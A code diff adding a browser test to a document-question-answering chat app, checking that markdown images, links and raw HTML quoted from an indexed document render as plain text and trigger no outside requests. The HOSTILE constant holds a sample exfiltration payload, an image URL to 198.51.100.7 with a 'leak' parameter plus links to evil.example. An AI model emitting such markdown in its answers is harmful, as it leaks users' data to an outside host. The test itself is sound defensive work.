@@ -28,6 +28,11 @@ ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background
 
 pytestmark = pytest.mark.browser
 
+#: a document line that tries every markdown way to make the browser fetch or link something
+HOSTILE = ("The capital of Kenya is Nairobi ![pixel](http://198.51.100.7/p.png?leak=kenya) "
+           "[click me](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare "
+           "www.evil.example <img src=\"http://198.51.100.7/i.png\"> :material/home: $x^2$ **bold**.")
+
 
 def free_port() -> int:
     with socket.socket() as s:
@@ -148,6 +153,47 @@ def test_demo_chat_in_a_real_browser(server):
             assert outside == [], f"requests left localhost: {outside}"
         except Exception:
             page.screenshot(path=str(ARTIFACTS / "chat-failure.png"), full_page=True)
+            raise
+        finally:
+            browser.close()
+
+
+def test_markdown_in_a_document_renders_as_text_in_a_real_browser(server, tmp_path):
+    """A document line with a markdown image (and links, autolinks, raw HTML), quoted by the
+    extractive answerer, shows as its characters: no <img> or <a> from it, no request out."""
+    if not Path(CHROMIUM).exists():
+        pytest.skip(f"{CHROMIUM} is missing: apt-get install -y chromium")
+    from playwright.sync_api import expect, sync_playwright
+
+    from rag_core.embeddings import create_embedder
+    from rag_core.index import Index
+    from rag_core.types import ChunkingConfig, Document
+
+    index = Index.create(tmp_path / "indexes" / "hostile", create_embedder("hashing"), "numpy",
+                         ChunkingConfig(size=2000))
+    index.ingest([Document("kenya.md", "Kenya", HOSTILE)])
+    index.save()
+    outside: list[str] = []
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        page = stay_local(browser.new_context(viewport={"width": 1600, "height": 1000}), outside).new_page()
+        try:
+            page.goto(server + "/chat")
+            box = page.get_by_placeholder("Ask a question about the documents in this index")
+            expect(box).to_be_visible(timeout=60_000)
+            box.fill("What is the capital of Kenya?")
+            box.press("Enter")
+            expect(page.locator(".rag-hit").first).to_contain_text("[click me](https://evil.example/x)",
+                                                                  timeout=60_000)  # drawn after the answer
+            page.wait_for_timeout(1000)
+            assert outside == [], f"requests left localhost: {outside}"
+            assert page.locator("img[src*='198.51.100.7'], a[href*='evil.example']").count() == 0
+            answer = page.locator('[data-testid="stChatMessage"]').nth(1)
+            expect(answer).to_contain_text("![pixel](http://198.51.100.7/p.png?leak=kenya)")
+            expect(answer).to_contain_text("[1]")
+            assert answer.locator("img, a").count() == 0 and page.locator(".rag-hit img").count() == 0
+        except Exception:
+            page.screenshot(path=str(ARTIFACTS / "hostile-failure.png"), full_page=True)
             raise
         finally:
             browser.close()
